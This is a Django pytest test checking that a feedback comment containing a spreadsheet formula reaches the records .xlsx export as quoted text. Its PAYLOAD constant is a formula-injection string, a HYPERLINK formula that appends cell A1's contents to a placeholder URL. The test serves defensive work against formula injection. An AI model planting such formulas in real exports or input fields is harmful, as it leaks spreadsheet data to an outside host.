"""A customer's feedback comment reaches the records export as text, never as a formula."""

import io

import pytest
import time_machine
from openpyxl import load_workbook

from shouhou.callbacks import records
from shouhou.callbacks.models import CallbackTask

from .records_factories import at, done, make_customer, task_on

pytestmark = pytest.mark.django_db
NOW = at(2026, 3, 9, 10)
PAYLOAD = '=HYPERLINK("http://x/?"&A1,"click")'


def test_a_formula_in_a_comment_is_exported_as_quoted_text(
    client, agent, desk, tech, org, store, make_user
):
    with time_machine.travel(NOW, tick=False):
        customer = make_customer(org, store=store, mobile="13912345678")
        order = done(desk, tech, customer, at(2026, 3, 6, 9))
        task = task_on(kind=CallbackTask.Kind.AFTER_SERVICE, work_order=order)
        records.callback_record_create(
            by=agent, task=task, satisfaction=2, comment=PAYLOAD, now=NOW
        )
        client.force_login(make_user("cs_supervisor"))
        resp = client.get("/callbacks/records.xlsx")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.content)).active
    cell = ws["L2"]
    assert cell.value == PAYLOAD
    assert cell.data_type == "s" and cell.quotePrefix is True
